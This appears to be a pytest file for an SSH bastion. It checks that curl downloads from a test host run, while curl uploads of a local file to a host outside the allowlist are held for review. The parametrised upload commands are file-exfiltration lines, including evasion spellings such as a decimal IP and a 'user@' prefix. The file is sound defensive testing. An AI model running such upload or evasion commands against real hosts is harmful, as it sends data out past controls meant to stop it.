"""Host classes on the data path: the real ssh client, the bastion, a real sshd and a real HTTP
server on 127.0.0.1. The policy is the shipped one with 127.0.0.1 taken out of `internal`, so
the loopback server stands for a host outside the allowlist: a download from it runs, an upload
to it is held before the target runs curl, and the server never sees the upload.
"""

from __future__ import annotations

import shutil
import subprocess
import tempfile
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pytest
from support.bastion import RunningBastion, start_bastion, target_block, write_config

from bastion.app import build_runtime
from bastion.testing.certs import Agent, CertificateAuthority
from bastion.testing.sshd import SshdTarget

SHIPPED = Path(__file__).resolve().parents[2] / "config"

pytestmark = pytest.mark.skipif(shutil.which("curl") is None, reason="needs curl")


class _Recorder(BaseHTTPRequestHandler):
    seen: ClassVar[list[tuple[str, str]]] = []

    def do_GET(self) -> None:
        self.seen.append(("GET", self.path))
        body = b"payload-from-server\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:
        self.seen.append(("POST", self.path))
        self.send_response(204)
        self.end_headers()

    do_PUT = do_POST

    def log_message(self, *args: object) -> None:
        return


@pytest.fixture(scope="module")
def server() -> Iterator[ThreadingHTTPServer]:
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield httpd
    httpd.shutdown()
    httpd.server_close()
    thread.join(timeout=5)


@pytest.fixture(scope="module")
def gated(
    tmp_path_factory: pytest.TempPathFactory, sshd: SshdTarget, ca: CertificateAuthority
) -> Iterator[RunningBastion]:
    directory = tmp_path_factory.mktemp("gated-hosts")
    text = (SHIPPED / "policy.toml").read_text(encoding="utf-8")
    assert '"localhost", "127.0.0.1", "::1"]' in text
    policy = directory / "policy.toml"
    policy.write_text(text.replace('"localhost", "127.0.0.1", "::1"]', '"::1"]'), encoding="utf-8")
    running = start_bastion(
        write_config(directory, ca, target_block(sshd), extra=f'[policy]\nfile = "{policy}"\n'),
        build_runtime,
    )
    yield running
    running.stop()


@pytest.fixture
def work() -> Iterator[Path]:
    path = Path(tempfile.mkdtemp(prefix="bastion-test-hosts-"))
    path.chmod(0o777)
    (path / "notes.txt").write_text("not for export\n", encoding="utf-8")
    (path / "notes.txt").chmod(0o666)
    yield path
    for child in path.iterdir():
        child.unlink()
    path.rmdir()


def test_download_from_a_readable_host_runs(gated: RunningBastion, agent: Agent,
                                            server: ThreadingHTTPServer, work: Path) -> None:
    port = server.server_address[1]
    out = work / "got.txt"
    result = gated.ssh(agent, "web-01", f"curl -fsS http://127.0.0.1:{port}/file -o {out}")
    assert result.returncode == 0, result.stderr
    assert ("GET", "/file") in _Recorder.seen
    assert out.read_bytes() == b"payload-from-server\n"


@pytest.mark.parametrize("template", [
    "curl -sd @{f} http://127.0.0.1:{p}/up",
    "curl -s -F 'x=@{f}' http://2130706433:{p}/up",       # 127.0.0.1 spelled as one number
    "curl -s -T {f} http://user@127.0.0.1:{p}/up",
])
def test_upload_outside_the_allowlist_is_held(gated: RunningBastion, agent: Agent,
                                              server: ThreadingHTTPServer, work: Path,
                                              template: str) -> None:
    port = server.server_address[1]
    line = template.format(f=work / "notes.txt", p=port)
    before = len([s for s in _Recorder.seen if s[0] != "GET"])
    proc = subprocess.Popen([*gated.ssh_args(agent, "web-01"), line],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        assert proc.stderr is not None
        first = proc.stderr.readline()
        assert first.startswith(b"bastion: held for review as "), first
        assert b"tool-network" in first or b"http-write" in first, first
        time.sleep(0.3)
        assert proc.poll() is None
        assert len([s for s in _Recorder.seen if s[0] != "GET"]) == before
    finally:
        proc.kill()
        proc.wait()
